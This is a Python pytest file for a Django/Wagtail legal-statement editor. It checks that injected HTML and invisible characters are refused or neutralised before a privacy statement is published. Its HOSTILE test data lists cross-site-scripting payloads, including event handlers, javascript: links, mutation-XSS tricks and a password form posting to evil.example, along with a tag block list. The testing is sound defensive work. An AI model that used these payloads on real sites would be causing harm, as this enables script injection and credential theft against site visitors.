"""Scripts, frames and their kin never get into a published text, whatever road they take."""

import json
from typing import Any

import pytest
from bs4 import BeautifulSoup, Comment
from django.core.exceptions import ValidationError
from django.db import connection
from django.utils import timezone
from wagtail.test.utils.form_data import streamfield

from legal.statements.models import Document, LegalPage, VersionText
from legal.statements.plain_text import read_statement
from legal.statements.publishing.faults import find_publication_faults
from legal.statements.publishing.importing import ImportRefused, import_statement
from legal.statements.publishing.publishing import PublicationRefused
from legal.statements.writing.markup import MarkupReader, find_refused, keep_allowed
from legal.statements.writing.rendering import render_page
from tests.factories.statements import make_legal_page, publish_version
from tests.visiting import Client

from .legal_admin import log_in, send
from .statement_blocks import ACCOUNT, COLUMNS, make_body, make_definitions, make_table, write_items, write_section

pytestmark = pytest.mark.one_database

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "event": '<b onclick="alert(1)">x</b>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "hidden javascript link": '<a href="java&#9;script:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "drawing": "<svg onload=alert(1)></svg>",
    "style": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed">x</p>',
    "picture": "<img src=x onerror=alert(1)>",
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "capitals": "<ScRiPt SRC=//evil.example>",
    "embed": '<embed embedtype="media" url="https://evil.example"/>',
    "mathematics": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
}
TAGS = ["script", "iframe", "svg", "style", "img", "form", "input", "embed", "math", "object"]
hostile = pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())

BODIES = {
    "paragraph": lambda html: make_body({"type": "paragraph", "value": f"<p>x</p>{html}"}),
    "notice": lambda html: make_body({"type": "notice", "value": html}),
    "bullets": lambda html: make_body({"type": "bullets", "value": [html]}),
    "steps": lambda html: make_body({"type": "steps", "value": [html]}),
    "meaning": lambda html: make_body(make_definitions(AVG=html)),
    "term": lambda html: make_body(make_definitions(**{html: "De wet."})),
    "cell": lambda html: make_body(make_table(ACCOUNT | {"data": html})),
    "first cell": lambda html: make_body(make_table(ACCOUNT | {"category": html})),
    "caption": lambda html: make_body(make_table(caption=html)),
    "heading": lambda html: [("section", {"heading": html, "anchor": "x", "content": []})],
}
everywhere = pytest.mark.parametrize("write", BODIES.values(), ids=BODIES.keys())


def is_clean(*pieces: str) -> bool:
    """As a browser would read it."""
    page = BeautifulSoup("\n".join(pieces), "html.parser")
    names = {name for tag in page.find_all() for name in tag.attrs if name.startswith("on") or name == "style"}
    links = [link for link in page.select("[href]") if link["href"].lower().startswith(("java", "data", "vb"))]
    comments = page.find_all(string=lambda text: isinstance(text, Comment))
    return not (page.find_all(TAGS) or names or links or comments)


def list_strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value or ()
    return [text for item in items for text in list_strings(item)]


def post(client: Client, page: LegalPage, body: dict[str, Any]) -> Any:
    return send(log_in(client), page, body=body)


def write_contentstate(text: str, **link: str) -> str:
    """What the editor's own program sends: pasted words, with one link over all of them."""
    key = {"entityRanges": [{"offset": 0, "length": len(text), "key": 0}]} if link else {"entityRanges": []}
    block = {"key": "abcde", "type": "unstyled", "text": text, "depth": 0, "inlineStyleRanges": []} | key
    entities = {"0": {"type": "LINK", "mutability": "MUTABLE", "data": link}} if link else {}
    return json.dumps({"blocks": [block], "entityMap": entities})


@hostile
def test_what_is_hostile_is_named_and_left_out(html: str) -> None:
    assert list(find_refused(html))
    assert is_clean(keep_allowed(html))
    assert not MarkupReader(keep_allowed(html)).refused


@pytest.mark.parametrize(
    "html",
    [
        '<p data-block-key="ab1">Een <b>vet</b>, <i>schuin</i> woord<br/>en 1 &lt; 2 &amp; 3.</p>',
        '<p><a href="https://voorbeeld.example/?a=1&amp;b=2">daar</a></p>',
        '<p><a href="mailto:hallo@voorbeeld.example">mail</a> <a href="tel:+31201234567">bel</a></p>',
        '<p><a linktype="page" id="3">pagina</a> <a href="/privacy/">hier</a> <a href="#kop">kop</a></p>',
        "Voor wie jonger is dan 16: leeftijd < 16 jaar & meer",
    ],
)
def test_what_the_editor_makes_is_kept(html: str) -> None:
    assert list(find_refused(html)) == []
    assert keep_allowed(html).replace("&lt;", "<") == html.replace("&lt;", "<").replace(" & ", " &amp; ")


@pytest.mark.django_db
@everywhere
@hostile
def test_a_crafted_revision_is_not_published_and_its_preview_is_harmless(write: Any, html: str) -> None:
    page = make_legal_page(title="Privacyverklaring", body=write(html))
    with pytest.raises(PublicationRefused) as refusal:
        page.save_revision().publish()
    assert "body" in refusal.value.message_dict
    assert not VersionText.objects.exists()
    assert is_clean(render_page(page).html)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["title", "summary"])
@hostile
def test_a_hostile_title_or_summary_is_refused(name: str, html: str) -> None:
    page = make_legal_page(**{name: html})
    with pytest.raises(PublicationRefused) as refusal:
        page.save_revision().publish()
    assert name in refusal.value.message_dict


@pytest.mark.django_db
@hostile
def test_a_crafted_revision_does_not_replace_the_text_in_force(client: Client, html: str) -> None:
    publish_version()
    page = LegalPage.objects.get()
    page.body = BODIES["cell"](html)
    with pytest.raises(PublicationRefused):
        page.save_revision().publish()
    assert VersionText.objects.count() == 1
    assert "Wij bewaren je naam." in client.get("/privacy/").content.decode()


@pytest.mark.django_db
@hostile
def test_pasted_html_is_refused_or_shown_as_the_text_it_is(client: Client, html: str) -> None:
    """What would ask another host or run is refused; the rest may stand there, and is never more than words."""
    response = post(client, make_legal_page(), write_section("paragraph", write_contentstate(html)))
    if response.status_code == 200:
        assert "Haal de code weg" in str(response.context["form"].errors["body"])
        assert not VersionText.objects.exists()
        return
    text = VersionText.objects.get()
    assert is_clean(text.html, *list_strings(text.blocks))


@pytest.mark.django_db
@pytest.mark.parametrize("address", ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"])
def test_a_pasted_link_to_a_script_leads_nowhere(client: Client, address: str) -> None:
    response = post(client, make_legal_page(), write_section("paragraph", write_contentstate("klik", url=address)))
    assert response.status_code == 302
    text = VersionText.objects.get()
    assert "<p><a>klik</a></p>" in text.html
    assert is_clean(text.html, *list_strings(text.blocks))


@pytest.mark.django_db
@pytest.mark.parametrize("name", [*ACCOUNT, "caption", "column", "term", "heading"])
@hostile
def test_html_in_a_plain_field_is_refused_in_the_editor(client: Client, name: str, html: str) -> None:
    page = make_legal_page()
    table = {"caption": "Wat we bewaren", "columns": COLUMNS, "rows": write_items(ACCOUNT)}
    if name in ACCOUNT:
        table["rows"] = write_items(ACCOUNT | {name: html})
    elif name == "column":
        table["columns"] = COLUMNS | {"data": html[:60]}
    elif name == "caption":
        table["caption"] = html
    body = write_section("table", table)
    if name == "term":
        body = write_section("definitions", write_items({"term": html, "meaning": write_contentstate("De wet.")}))
    if name == "heading":
        body = streamfield([("section", {"heading": html, "anchor": "x", "content": streamfield([])})])
    response = post(client, page, body)
    assert response.context["form"].errors.keys() == {"body"}
    assert not VersionText.objects.exists()


@pytest.mark.django_db
@hostile
def test_an_imported_text_with_html_holds_it_as_words_or_is_refused(html: str) -> None:
    source = f"Privacyverklaring\n\n1. Wat we bewaren\n\nWij bewaren {html} je naam.\n".encode()
    document = Document.objects.get(kind="privacy")
    try:
        statement = read_statement(source)
        import_statement(document=document, statement=statement, effective_from=timezone.localdate())
    except (ImportRefused, ValidationError, ValueError):
        assert not VersionText.objects.exists()
    else:
        text = VersionText.objects.get()
        assert is_clean(text.html, *list_strings(text.blocks))


# Characters that nobody sees

UNSEEN = pytest.mark.parametrize("character", ["\x0b", "\x00", "\x7f", "\x85", "\u2028", "\u2029", "\ufffe", "\u2066"])
SURROGATE = "\ud800"


@pytest.mark.django_db
@UNSEEN
@pytest.mark.parametrize("name", ["title", "summary", "body"])
def test_a_character_that_nobody_sees_is_refused_at_its_field(name: str, character: str) -> None:
    words = f"Wat{character}we bewaren"
    page = make_legal_page()
    setattr(page, name, BODIES["heading"](words) if name == "body" else words)
    faults = find_publication_faults(page)
    assert faults.keys() == {name}
    assert f"(U+{ord(character):04X})" in faults[name]


@pytest.mark.django_db
@pytest.mark.parametrize("title", ["\u200b\u200b", "\u2060", " \u00ad "])
def test_a_title_that_nobody_sees_is_refused_at_its_field(title: str) -> None:
    faults = find_publication_faults(make_legal_page(title=title))
    assert faults == {"title": "Geef de tekst een titel die je kunt zien."}


@pytest.mark.django_db
@pytest.mark.parametrize("write", BODIES.values(), ids=BODIES.keys())
def test_it_is_refused_wherever_in_the_text_it_stands(write: Any) -> None:
    page = make_legal_page(title="Privacyverklaring", body=write("Wat\x0bwe bewaren"))
    with pytest.raises(PublicationRefused) as refusal:
        page.save_revision().publish()
    assert "(U+000B)" in refusal.value.message_dict["body"][0]


@pytest.mark.django_db
def test_line_ends_and_tabs_are_words_enough() -> None:
    page = make_legal_page(summary="Dit is nieuw.\r\nEn\tdit ook.\nKijk maar.")
    assert find_publication_faults(page) == {}


@pytest.mark.django_db
@pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL keeps no half letter at all")
@pytest.mark.parametrize("address", ["/admin/legal/publish/{}/", "/admin/pages/{}/view_draft/"])
@pytest.mark.parametrize("write", BODIES.values(), ids=BODIES.keys())
def test_a_draft_with_half_a_letter_is_shown_and_refused(client: Client, write: Any, address: str) -> None:
    log_in(client)
    page = make_legal_page(body=write(f"Wat{SURROGATE} we bewaren"))
    assert client.get(address.format(page.pk)).status_code == 200
    assert "(U+FFFD)" in find_publication_faults(page)["body"]


@pytest.mark.django_db
@pytest.mark.parametrize("action", ["publish", "prepare", ""])
@pytest.mark.parametrize("character", [SURROGATE, "\0"])
def test_half_a_letter_is_refused_in_the_editor(client: Client, action: str, character: str) -> None:
    page = make_legal_page()
    log_in(client)
    body = write_section("paragraph", write_contentstate(f"Wij{character} bewaren"))
    response = send(client, page, body=body, action=action)
    assert response.status_code == 200
    assert response.context["form"].errors.keys() == {"body"}
